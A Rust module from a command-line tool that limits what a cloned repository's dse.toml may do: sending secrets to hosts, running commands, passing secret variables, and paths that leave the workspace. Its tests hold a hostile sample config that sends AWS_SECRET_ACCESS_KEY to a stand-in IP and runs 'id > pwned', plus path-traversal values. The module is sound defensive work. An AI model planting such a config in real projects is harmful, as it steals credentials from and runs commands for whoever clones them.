//! What a workspace's own file may decide. Whoever clones a repository has not
//! written its `dse.toml`: it may not take secrets, run commands, or reach
//! outside of the workspace unless the user trusts it with just that.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::path::{Component, Path, PathBuf};

use serde::{Deserialize, Serialize};

use super::{Config, ConfigError, Environment, Origin, Settings, Workspace};
use crate::model::lm_settings::Provider;

/// The variable that trusts the workspace for one command.
pub const VARIABLE: &str = "DSE_TRUST";

/// What a value of a workspace's file may do. Flags, the environment and the
/// user's own file may do all of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Power {
    /// Decides nothing that leaves the workspace.
    Free,
    /// Names paths, which stay inside the workspace.
    Inside,
    /// Names a host or a secret: see [`Ask::Server`] and [`Ask::Model`].
    Sends,
    /// Is run: see [`Ask::Run`].
    Runs,
    /// Is for the user alone to say.
    Never,
    /// Names a secret for what is run: see [`Ask::Give`].
    Gives,
}

/// The power of every setting, by its key or by the front of it up to a dot.
/// A setting that is missing here fails a test.
pub const POWERS: &[(&str, Power)] = &[
    ("server.url", Power::Sends),
    ("server.token_file", Power::Inside),
    ("server.timeout", Power::Free),
    ("server.retries", Power::Free),
    ("server.allow_http", Power::Never),
    ("store.path", Power::Inside),
    ("store", Power::Free),
    ("output", Power::Free),
    ("lm.base_url", Power::Sends),
    ("lm.api_key_env", Power::Sends),
    ("lm.fallback", Power::Sends),
    ("lm.record", Power::Inside),
    ("lm.replay", Power::Inside),
    ("lm.script", Power::Inside),
    ("lm.provider", Power::Free),
    ("lm.models", Power::Free),
    ("lm.price", Power::Free),
    ("lm.concurrency", Power::Free),
    ("lm.structured_output", Power::Free),
    ("lm.timeout_seconds", Power::Free),
    ("lm.retries", Power::Free),
    ("lm.max_answer_bytes", Power::Free),
    ("lm.cache", Power::Free),
    ("gate", Power::Free),
    ("overnight.verify", Power::Runs),
    ("overnight.e2e", Power::Runs),
    ("overnight.e2e_variables", Power::Gives),
    ("overnight.verify_variables", Power::Gives),
    ("overnight.check_scopes", Power::Free),
    ("overnight.signature", Power::Free),
    ("overnight.dataset", Power::Inside),
    ("overnight.check_timeout_seconds", Power::Free),
    ("overnight.rollout_pct", Power::Free),
    ("overnight.min_samples", Power::Free),
    ("overnight.max_error_rate", Power::Free),
    ("overnight.traffic", Power::Free),
    ("overnight.exercise", Power::Free),
    ("overnight.exercise_cap", Power::Free),
    ("overnight.poll_seconds", Power::Free),
    ("overnight.deadline_seconds", Power::Free),
    ("overnight.lease_seconds", Power::Free),
    ("serve.issuer", Power::Never),
    ("serve", Power::Free),
    ("lint", Power::Free),
    ("dataset", Power::Inside),
];

/// The power of a setting: that of its own row, else of the nearest table
/// around it.
pub fn power(key: &str) -> Option<Power> {
    let mut name = key;
    loop {
        if let Some((_, power)) = POWERS.iter().find(|(known, _)| *known == name) {
            return Some(*power);
        }
        name = name.rsplit_once('.')?.0;
    }
}

/// Something that a workspace's file wants and only the user can allow.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
pub enum Ask {
    /// The secret of the server goes to this address.
    Server { url: String },
    /// Prompts go to this address, and the value of a variable where it has one.
    Model { variable: String, url: String },
    /// This command is run.
    Run { command: String },
    /// The commands that are run get the value of a variable that holds a secret.
    Give { variable: String },
}

impl std::fmt::Display for Ask {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Server { url } => write!(formatter, "send the secret of the server to {url}"),
            Self::Model { variable, url } if variable.is_empty() => {
                write!(formatter, "ask the model at {url}")
            }
            Self::Model { variable, url } => write!(formatter, "send ${variable} to {url}"),
            Self::Run { command } => write!(formatter, "run `{command}`"),
            Self::Give { variable } => write!(formatter, "give ${variable} to what it runs"),
        }
    }
}

impl Config {
    /// Everything that the workspace's file wants and the user must allow.
    pub fn asks(&self) -> BTreeSet<Ask> {
        let settings = &self.settings;
        let mut asks = BTreeSet::new();
        if self.is_of_workspace("server.url") && !settings.server.url.is_empty() {
            asks.insert(Ask::Server { url: settings.server.url.clone() });
        }
        asks.extend(self.model_asks());
        if self.is_of_workspace("overnight.verify") {
            let verify = settings.overnight.verify.iter();
            asks.extend(verify.map(|command| Ask::Run { command: command.clone() }));
        }
        if self.is_of_workspace("overnight.e2e") && !settings.overnight.e2e.is_empty() {
            asks.insert(Ask::Run { command: settings.overnight.e2e.clone() });
        }
        let overnight = &settings.overnight;
        for (key, names) in [
            ("overnight.verify_variables", &overnight.verify_variables),
            ("overnight.e2e_variables", &overnight.e2e_variables),
        ] {
            let names = names.iter().filter(|name| self.is_secret_variable(name));
            let names = names.filter(|_| self.is_of_workspace(key));
            asks.extend(names.map(|name| Ask::Give { variable: name.clone() }));
        }
        asks
    }

    fn model_asks(&self) -> Vec<Ask> {
        let lm = &self.settings.lm;
        if lm.provider != Provider::Openai {
            return Vec::new();
        }
        let ask = |variable: &str, url: &str| Ask::Model {
            variable: variable.to_owned(),
            url: url.to_owned(),
        };
        let own = self.is_of_workspace("lm.base_url") || self.is_of_workspace("lm.api_key_env");
        let first = own.then(|| ask(&lm.api_key_env, &lm.base_url));
        let fallback = lm.fallback.iter().filter(|_| self.is_of_workspace("lm.fallback"));
        first.into_iter().chain(fallback.map(|one| ask(&one.api_key_env, &one.base_url))).collect()
    }

    /// Whether the workspace's file names a place that the model is asked at, with
    /// or without a key.
    pub fn names_model_host(&self) -> bool {
        ["lm.base_url", "lm.fallback"].iter().any(|key| self.is_of_workspace(key))
    }

    /// What of `wanted` was neither allowed for this command nor before.
    ///
    /// # Errors
    /// When the list of what is trusted cannot be read.
    pub fn untrusted(
        &self,
        wanted: impl IntoIterator<Item = Ask>,
    ) -> Result<Vec<Ask>, ConfigError> {
        let wanted: Vec<Ask> = wanted.into_iter().collect();
        if wanted.is_empty() || self.trusts_all() {
            return Ok(Vec::new());
        }
        let known = Trusted::read(self.environment())?.of(self.root());
        Ok(wanted.into_iter().filter(|ask| !known.contains(&ask.to_string())).collect())
    }

    /// Whether `--trust` or `DSE_TRUST=1` was given.
    pub fn trusts_all(&self) -> bool {
        self.flags.trust || self.variable(VARIABLE) == Some("1")
    }

    /// Whether the value comes from a file of the workspace.
    fn is_of_workspace(&self, key: &str) -> bool {
        let file = match self.origins.get(key) {
            Some(Origin::File(file)) => file,
            _ => return false,
        };
        self.environment().user_config_file().as_ref() != Some(file)
    }

    /// Paths of a workspace's file stay inside the workspace.
    pub(super) fn check_paths(&self) -> Result<(), ConfigError> {
        let settings = &self.settings;
        for (key, _) in POWERS.iter().filter(|(_, power)| *power == Power::Never) {
            if self.is_of_workspace(key) {
                let place = self.origins[*key].to_string();
                let reason = format!("`{key}` is not for a workspace's file to say");
                let hint = "set it by a flag, a variable or your own configuration file";
                return Err(ConfigError::new(place, reason).with_hint(hint));
            }
        }
        let bound = POWERS.iter().filter(|(_, power)| *power == Power::Inside);
        let paths = bound
            .flat_map(|(key, _)| paths_of(settings, key).into_iter().map(move |path| (key, path)));
        for (key, path) in paths {
            // Where nobody says otherwise the database lies in a folder of the
            // workspace, which may be a link.
            let decides = self.is_of_workspace(key)
                || (*key == "store.path" && !self.origins.contains_key(*key));
            if path.is_empty() || path == super::MEMORY || !decides {
                continue;
            }
            if !is_inside(&self.workspace, path) && !self.trusts_all() {
                let place =
                    self.origins.get(*key).map_or_else(|| path.to_owned(), Origin::to_string);
                let reason = format!("`{key}` leads out of the workspace: {path}");
                return Err(ConfigError::new(place, reason).with_hint(format!(
                    "name it by a flag, a variable or your own configuration file, or give \
                     --trust or {VARIABLE}=1"
                )));
            }
        }
        Ok(())
    }
}

fn paths_of<'a>(settings: &'a Settings, key: &str) -> Vec<&'a str> {
    let path: &str = match key {
        "dataset" => return settings.dataset.iter().map(|entry| entry.path.as_str()).collect(),
        "overnight.dataset" => &settings.overnight.dataset,
        "server.token_file" => &settings.server.token_file,
        "store.path" => &settings.store.path,
        "lm.record" => &settings.lm.record,
        "lm.replay" => &settings.lm.replay,
        "lm.script" => &settings.lm.script,
        _ => return Vec::new(),
    };
    vec![path]
}

/// Whether a path leads to a place below the root, links followed.
fn is_inside(workspace: &Workspace, path: &str) -> bool {
    let path = workspace.resolve(path);
    let goes_up = path.components().any(|part| part == Component::ParentDir);
    let there = path.ancestors().find_map(|part| part.canonicalize().ok());
    let root = workspace.root().canonicalize().ok();
    !goes_up && there.zip(root).is_some_and(|(there, root)| there.starts_with(root))
}

/// Refuses a workspace that another user could have put in our way, as git does.
///
/// # Errors
/// When its file or folder belongs neither to us nor to root.
#[cfg(unix)]
pub(super) fn check_owner(
    workspace: &Workspace,
    environment: &Environment,
) -> Result<(), ConfigError> {
    use std::os::unix::fs::MetadataExt;
    let Some(file) = workspace.config_file() else { return Ok(()) };
    let us = rustix::process::geteuid().as_raw();
    // Who became root by sudo still works in files of their own.
    let before: Option<u32> = environment.get("SUDO_UID").and_then(|uid| uid.parse().ok());
    for path in [&file, &workspace.root().to_owned()] {
        let metadata = fs::metadata(path).map_err(|error| ConfigError::read(path, &error))?;
        let owner = metadata.uid();
        let is_ours = owner == us || owner == 0 || (us == 0 && before == Some(owner));
        if !is_ours {
            let reason =
                format!("it belongs to another user (uid {owner}), who could run commands as you");
            return Err(ConfigError::new(path.display().to_string(), reason).with_hint(format!(
                "work in a folder of your own, or give --trust or {VARIABLE}=1 if you trust that user"
            )));
        }
    }
    Ok(())
}

#[cfg(not(unix))]
pub(super) fn check_owner(_: &Workspace, _: &Environment) -> Result<(), ConfigError> {
    Ok(())
}

/// What the user trusts workspaces with, by the path of the workspace. It lies
/// outside of every workspace, so that none can write it.
#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Trusted(BTreeMap<PathBuf, BTreeSet<String>>);

impl Trusted {
    /// # Errors
    /// When the file is there and cannot be read.
    pub fn read(environment: &Environment) -> Result<Self, ConfigError> {
        let Some(file) = file(environment) else { return Ok(Self::default()) };
        let text = match fs::read_to_string(&file) {
            Ok(text) => text,
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => {
                return Ok(Self::default());
            }
            Err(error) => return Err(ConfigError::read(&file, &error)),
        };
        serde_json::from_str(&text).map_err(|error| {
            ConfigError::new(
                file.display().to_string(),
                format!("it is not a list of what is trusted: {error}"),
            )
            .with_hint("remove it; `dse trust` writes a new one")
        })
    }

    /// What a workspace is trusted with.
    pub fn of(&self, root: &Path) -> BTreeSet<String> {
        self.0.get(root).cloned().unwrap_or_default()
    }

    /// Trusts a workspace with this, and with nothing else.
    ///
    /// # Errors
    /// When there is no place for the list, or it cannot be written.
    pub fn set(
        mut self,
        environment: &Environment,
        root: &Path,
        asks: BTreeSet<String>,
    ) -> Result<(), ConfigError> {
        let Some(file) = file(environment) else {
            return Err(ConfigError::new(
                "HOME",
                "it is not set, so that nothing can be remembered",
            )
            .with_hint(format!("give --trust or {VARIABLE}=1 for this command")));
        };
        if asks.is_empty() {
            self.0.remove(root);
        } else {
            self.0.insert(root.to_owned(), asks);
        }
        let text = serde_json::to_string_pretty(&self).expect("texts serialize to JSON");
        write(&file, &text).map_err(|error| {
            ConfigError::new(file.display().to_string(), format!("it cannot be written: {error}"))
        })
    }
}

fn write(file: &Path, text: &str) -> std::io::Result<()> {
    let folder = file.parent().unwrap_or(Path::new("."));
    fs::create_dir_all(folder)?;
    let mut new = tempfile::NamedTempFile::new_in(folder)?;
    writeln!(new, "{text}")?;
    new.persist(file)?;
    Ok(())
}

/// Where the list lies: `dse/trusted.json` in the folder for state.
fn file(environment: &Environment) -> Option<PathBuf> {
    let folder = match environment.get("XDG_STATE_HOME") {
        Some(folder) => PathBuf::from(folder),
        None => PathBuf::from(environment.get("HOME").or(environment.get("USERPROFILE"))?)
            .join(".local/state"),
    };
    Some(folder.join("dse/trusted.json"))
}

#[cfg(test)]
mod tests {
    use super::super::{CONFIG_FILE, Flags, layers};
    use super::*;

    fn load(folder: &Path, text: &str, variables: &[(&str, &str)]) -> Result<Config, ConfigError> {
        fs::write(folder.join(CONFIG_FILE), text).unwrap();
        let flags = Flags { directory: Some(folder.to_owned()), ..Flags::default() };
        Config::load(&flags, Environment::of(variables))
    }

    #[test]
    fn of_every_setting_it_is_decided_what_a_workspace_may_do_by_it() {
        let keys = layers::flatten("", &layers::defaults());
        let missing: Vec<String> =
            keys.into_iter().map(|(key, _)| key).filter(|key| power(key).is_none()).collect();
        assert_eq!(missing, Vec::<String>::new(), "add a row to POWERS");
        for (key, _) in POWERS.iter().filter(|(_, power)| *power == Power::Inside) {
            let text = match key.split_once('.') {
                Some((table, name)) => format!("[{table}]\n{name} = \"here\"\n"),
                None => format!("[[{key}]]\npath = \"here\"\nsignature = \"s\"\n"),
            };
            assert_eq!(paths_of(&toml::from_str(&text).unwrap(), key), ["here"], "{key}");
        }
    }

    const HOSTILE: &str = r#"
[server]
url = "http://192.0.2.1"
[lm]
provider = "openai"
base_url = "http://192.0.2.2/v1"
api_key_env = "AWS_SECRET_ACCESS_KEY"
[[lm.fallback]]
base_url = "http://192.0.2.3/v1"
api_key_env = "OTHER_KEY"
[lm.fallback.models]
main = "m"
[overnight]
verify = ["id > pwned"]
e2e = "true"
"#;

    #[test]
    fn a_workspace_is_trusted_with_what_was_seen_and_with_nothing_else() {
        let (folder, home) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let home = home.path().to_str().unwrap();
        let config = load(folder.path(), HOSTILE, &[("HOME", home)]).unwrap();
        let asks = config.asks();
        let told: Vec<String> = asks.iter().map(Ask::to_string).collect();
        assert_eq!(
            told,
            [
                "send the secret of the server to http://192.0.2.1",
                "send $AWS_SECRET_ACCESS_KEY to http://192.0.2.2/v1",
                "send $OTHER_KEY to http://192.0.2.3/v1",
                "run `id > pwned`",
                "run `true`",
            ]
        );
        assert_eq!(config.untrusted(asks.clone()).unwrap().len(), 5);
        let all = told.iter().cloned().collect();
        let environment = config.environment();
        Trusted::read(environment).unwrap().set(environment, config.root(), all).unwrap();
        assert_eq!(config.untrusted(asks).unwrap(), []);
        let other = HOSTILE.replace("id > pwned", "id > pwned2");
        let changed = load(folder.path(), &other, &[("HOME", home)]).unwrap();
        let left = changed.untrusted(changed.asks()).unwrap();
        assert_eq!(left, [Ask::Run { command: "id > pwned2".to_owned() }]);
        let once = load(folder.path(), &other, &[("HOME", home), (VARIABLE, "1")]).unwrap();
        assert_eq!(once.untrusted(once.asks()).unwrap(), []);
    }

    #[test]
    fn what_the_user_says_needs_no_trust() {
        let folder = tempfile::tempdir().unwrap();
        let variables =
            [("DSE_SERVER", "http://192.0.2.9"), ("DSE_LM_BASE_URL", "http://192.0.2.9/v1")];
        let text = "[server]\nurl = \"http://192.0.2.1\"\n[lm]\nprovider = \"openai\"\n";
        let config = load(folder.path(), text, &variables).unwrap();
        assert_eq!(config.asks(), BTreeSet::new());
    }

    #[test]
    fn paths_of_a_workspace_stay_inside() {
        let folder = tempfile::tempdir().unwrap();
        let outside = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink(outside.path(), folder.path().join("link")).unwrap();
        let line = |path: &str| format!("[lm]\nrecord = \"{path}\"\n");
        for path in ["../newfile", "/etc/newfile", "a/../../b", "link/newfile"] {
            let error = load(folder.path(), &line(path), &[]).unwrap_err().to_string();
            assert!(error.contains("`lm.record` leads out of the workspace"), "{error}");
        }
        for path in ["new/file", "./file", ""] {
            load(folder.path(), &line(path), &[]).unwrap();
        }
        load(folder.path(), "", &[("DSE_LM_RECORD", "/tmp/file")]).unwrap();
    }
}
